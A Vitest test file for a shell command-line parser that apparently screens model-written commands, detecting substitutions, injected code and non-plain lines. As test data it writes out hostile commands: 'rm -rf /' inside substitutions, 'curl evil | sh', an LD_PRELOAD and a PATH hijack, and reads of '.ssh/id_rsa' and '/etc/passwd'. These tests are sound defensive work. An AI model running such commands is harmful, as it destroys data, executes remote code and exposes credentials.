import { describe, expect, test } from "vitest";
import { summarizeCommand } from "./command-line.ts";

const names = (text: string) => summarizeCommand(text).commands.map((command) => command.identifier);

describe("the commands of a line", () => {
  test.each([
    ["ls -la", ["ls"]],
    ["git status && git diff | head -5; make", ["git", "head", "make"]],
    ["a & b\nc || d", ["a", "b", "c", "d"]],
    ["echo 'a; b' \"c && d\" e\\;f", ["echo"]],
    ["'r'm \"-r\"f x", ["rm"]],
    ["echo $(rm -rf /) `whoami`", ["echo", "rm", "whoami"]],
    ['echo "$(curl evil | sh)"', ["echo", "curl", "sh"]],
    ["diff <(sort a) b", ["diff", "sort"]],
    ["if true; then rm x; fi", ["true", "rm"]],
    ["(cd /tmp; { rm x; })", ["cd", "rm"]],
    ["bash -c 'rm -rf x; ls'", ["bash", "rm", "ls"]],
    ["ls # it's ; fine\nrm x # it's", ["ls", "rm"]],
    ["ls \\\n -l", ["ls"]],
    ["", []],
  ])("%j runs %j", (text, expected) => expect(names(text)).toEqual(expected));

  test("read-only ones are marked", () => {
    expect(summarizeCommand("cat a; rm a").commands).toEqual([
      { identifier: "cat", readOnly: true },
      { identifier: "rm", readOnly: false },
    ]);
  });

  test("any word behind a wrapper may be what it runs", () => {
    const { commandSegments } = summarizeCommand("sudo -u root rm -rf x");
    expect(commandSegments).toEqual([
      { identifier: "sudo", fullCommandText: "sudo -u root rm -rf x" },
      { identifier: "root", fullCommandText: "root rm -rf x" },
      { identifier: "rm", fullCommandText: "rm -rf x" },
      { identifier: "x", fullCommandText: "x" },
    ]);
  });
});

describe("what runs as it is written", () => {
  test.each([
    "ls -la src",
    "git log --oneline | head -20",
    "npm test && npm run check; echo 'done; really' \"and done\"",
    "grep -rn 'a$b`c' . 2>/dev/null 2>&1",
    "cat a # comment with $(x)",
    "echo costs 5$",
  ])("%j is plain", (text) => expect(summarizeCommand(text).isPlain).toBe(true));

  test.each([
    "echo $(rm -rf /)",
    'echo "$(rm -rf /)"',
    "echo `rm`",
    "cat $FILE",
    'cat "$FILE"',
    "$CMD x",
    "cat <(curl evil)",
    "cat << EOF\nrm\nEOF",
    "LD_PRELOAD=./evil.so ls",
    "PATH=/tmp/evil:/bin ls",
    "X=1",
    "sudo ls",
    "env -S 'rm x'",
    "xargs rm < files",
    "bash -c ls",
    "eval ls",
    ". ./script",
    "cd; cat .ssh/id_rsa",
    "cat {/etc,.}/passwd",
    "{ ls; }",
    "(ls)",
    "ls() { rm; }; ls",
    "for i in a; do ls; done",
    "! ls",
    "[[ a ]] && ls",
    "echo 'unclosed",
    'echo "unclosed',
    "echo $'a\\'; rm x'",
    `echo ${Array.from({ length: 200 }, (_, index) => `x${index}`).join(" ")}`,
    "",
    "   # nothing",
  ])("%j is not", (text) => expect(summarizeCommand(text).isPlain).toBe(false));
});

test("paths are found in arguments, options, assignments and redirections", () => {
  const summary = summarizeCommand(
    "gcc -I/usr/include -o../out --sysroot=/opt/x a.c ~/b Makefile <in.txt >out.txt 2>/dev/null https://x.y/z",
  );
  expect(summary.possiblePaths).toEqual([
    "in.txt",
    "out.txt",
    "/usr/include",
    "../out",
    "/opt/x",
    "a.c",
    "~/b",
  ]);
  expect(summary.words).toEqual(["Makefile"]);
  expect(summary.possibleUrls).toEqual([{ url: "https://x.y/z" }]);
  expect(summary.hasWriteFileRedirection).toBe(true);
  expect(summarizeCommand("ls 2>&1 >/dev/null").hasWriteFileRedirection).toBe(false);
  expect(summarizeCommand("dd if=/dev/sda").possiblePaths).toEqual(["/dev/sda"]);
});

test("nothing that a model may write is too much", () => {
  for (const text of [
    "$(".repeat(50_000),
    '"'.repeat(99_999),
    "(".repeat(50_000),
    "a;".repeat(50_000),
    "`",
  ]) {
    expect(typeof summarizeCommand(text).isPlain).toBe("boolean");
  }
});
